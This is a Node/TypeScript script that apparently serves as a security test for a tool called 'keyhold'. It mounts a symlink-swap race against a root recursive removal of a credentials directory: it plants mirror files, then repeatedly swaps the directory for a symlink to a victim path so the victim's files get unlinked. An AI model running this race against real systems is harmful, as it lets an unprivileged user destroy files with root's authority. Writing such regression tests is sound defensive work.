/**
 * The attack on a recursive removal by root, played by an unprivileged user (no imports outside
 * node:, so the compiled file runs from a copy anywhere):
 *
 *   node swap-racer.mjs attack VICTIM STATE      as `keyhold run --user U`'s child: plants DIR/sub
 *                                                in $CREDENTIALS_DIRECTORY, starts the racer, exits
 *   node swap-racer.mjs race DIR VICTIM STATE    swaps DIR/sub with a symlink to VICTIM and back,
 *                                                until DIR is gone or 20 s have passed
 *
 * DIR/sub holds one file for each name in VICTIM, so a removal that walks DIR/sub by path while
 * it is the symlink unlinks VICTIM's files. STATE (writable by the user) receives attack.json,
 * then `racing` when the racer runs and `done` when it stops.
 */
import { spawn } from "node:child_process";
import {
  chmodSync,
  existsSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  renameSync,
  symlinkSync,
  unlinkSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import { fileURLToPath } from "node:url";

function codeOf(err: unknown): string {
  return (err as NodeJS.ErrnoException).code ?? String(err);
}

/** DIR/sub with a file for each of VICTIM's names. */
export function plant(dir: string, victim: string): void {
  mkdirSync(join(dir, "sub"));
  for (const name of readdirSync(victim)) writeFileSync(join(dir, "sub", name), "x");
}

function spin(rounds: number, path: string): void {
  for (let i = 0; i < rounds; i++) {
    try {
      lstatSync(path);
    } catch {
      // only passing time
    }
  }
}

function race(dir: string, victim: string, state: string): void {
  writeFileSync(join(state, "racing"), "");
  const sub = join(dir, "sub");
  const away = join(dir, "away");
  const deadline = Date.now() + 20_000;
  while (Date.now() < deadline) {
    try {
      lstatSync(dir);
    } catch {
      break;
    }
    try {
      renameSync(sub, away);
      symlinkSync(victim, sub);
      spin(10, sub);
      unlinkSync(sub);
      renameSync(away, sub);
      spin(10, sub);
    } catch {
      // the removal took something away: try again from wherever things stand
      try {
        if (!existsSync(sub) && existsSync(away)) renameSync(away, sub);
      } catch {
        // gone
      }
    }
  }
  writeFileSync(join(state, "done"), "");
}

async function attack(victim: string, state: string): Promise<void> {
  const dir = process.env.CREDENTIALS_DIRECTORY ?? "";
  const report: Record<string, string> = {};
  try {
    chmodSync(dir, 0o700);
    report.chmod = "ok";
  } catch (err) {
    report.chmod = codeOf(err);
  }
  try {
    plant(dir, victim);
    report.plant = "ok";
  } catch (err) {
    report.plant = codeOf(err);
  }
  writeFileSync(join(state, "attack.json"), JSON.stringify(report));
  const racer = spawn(process.execPath, [fileURLToPath(import.meta.url), "race", dir, victim, state], {
    detached: true,
    stdio: "ignore",
    cwd: "/",
  });
  racer.unref();
  for (let i = 0; i < 500 && !existsSync(join(state, "racing")); i++) await sleep(10);
  await sleep(100);
}

const [mode, ...args] = process.argv.slice(2);
if (mode === "attack") await attack(args[0] as string, args[1] as string);
else if (mode === "race") race(args[0] as string, args[1] as string, args[2] as string);
